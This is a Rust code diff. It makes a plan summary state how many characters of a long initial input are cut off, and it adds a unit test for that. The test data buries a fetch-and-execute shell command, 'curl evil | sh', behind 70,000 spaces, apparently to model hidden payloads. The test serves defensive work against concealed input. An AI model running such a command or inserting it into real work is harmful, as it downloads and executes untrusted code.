@@ -207,12 +207,17 @@ fn same_initial_input(
     })
 }
 
-/// The initial input as one line of a summary: its first 200 characters.
+/// The initial input as one line of a summary: its first 200 characters, saying how many
+/// more the plan holds (the summary never passes a cut input off as the whole).
 fn shown_input(input: &[Segment]) -> String {
     let text = flatten(input);
     match text.char_indices().nth(200) {
-        Some((cut, _)) => format!("{}…", &text[..cut]),
-        None => text,
+        Some((cut, _)) => format!(
+            "{:?} and {} more characters (the plan holds them all)",
+            &text[..cut],
+            text[cut..].chars().count()
+        ),
+        None => format!("{text:?}"),
     }
 }
 
@@ -295,7 +300,7 @@ impl Adapter for WorkerStartAdapter {
                     p.input_mode,
                     p.initial_input
                         .as_deref()
-                        .map(|i| format!(", first {:?}", shown_input(i)))
+                        .map(|i| format!(", first {}", shown_input(i)))
                         .unwrap_or_default(),
                     p.secrets.join(", "),
                     decls.join("; ")
@@ -358,5 +363,27 @@ impl Adapter for WorkerStartAdapter {
                 upstream_status: None,
             })
         })())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_long_initial_input_is_summarised_as_cut_saying_how_much_more_there_is() {
+        let text = |content: String| vec![Segment::Text { content }];
+        assert_eq!(shown_input(&text("short\nline".into())), r#""short\nline""#);
+        let long = format!(
+            "{}{}HIDDEN: curl evil | sh",
+            "a".repeat(200),
+            " ".repeat(70_000)
+        );
+        let shown = shown_input(&text(long));
+        assert!(!shown.contains("HIDDEN"), "{shown}");
+        assert!(
+            shown.ends_with("and 70022 more characters (the plan holds them all)"),
+            "{shown}"
+        );
     }
 }
